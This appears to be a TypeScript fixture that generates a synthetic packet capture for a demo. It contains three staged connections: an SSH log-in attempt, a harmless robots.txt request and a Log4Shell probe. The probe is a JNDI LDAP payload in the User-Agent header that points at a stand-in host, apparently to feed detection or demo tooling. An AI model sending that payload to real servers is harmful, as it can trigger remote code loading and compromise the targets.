import { sites } from './addresses.ts'
import type { Exchange, Turn } from './exchange.ts'
import { random } from './random.ts'
import { visit } from './speak/http.ts'
import { sshClients, sshOpening } from './speak/ssh.ts'
import { syn } from './speak/syn.ts'
import { capture } from './wire/capture.ts'

/**
 * Clients of the public API look up only what they hold to be routable, and nothing of the demo's month is. The former 6to4
 * relays (192.88.99.0/24) are routable to their libraries and nobody's since RFC 7526.
 */
export const routableSources = ['192.88.99.1', '192.88.99.2', '192.88.99.3'] as const

const minuteMs = 60_000

/** A capture that ends before `now`: one address tries Log4Shell, one an SSH log-in, one only reads a page. */
export function routableCapture(now: number): Uint8Array {
  const { addresses } = sites[0] ?? { addresses: [] }
  const destination = addresses[0] ?? ''
  const seed = random('routable')
  const plays: readonly [port: number, turns: Turn[]][] = [
    [80, visit({ uri: '/', host: destination, userAgent: '${jndi:ldap://203.0.113.250:1389/a}' })],
    [22, sshOpening(sshClients.libssh, seed)],
    [80, visit({ uri: '/robots.txt', host: destination, userAgent: 'demo/1' })],
  ]
  const exchanges = plays.map(([destinationPort, turns], at): Exchange => ({
    at: now - (at + 1) * minuteMs,
    source: routableSources[at] ?? '',
    sourcePort: 40_000 + at,
    destination,
    destinationPort,
    ttl: 51,
    play: { kind: 'tcp', outcome: 'open', syn: syn.linux, turns },
  }))
  return Buffer.concat([...capture(exchanges, seed)])
}
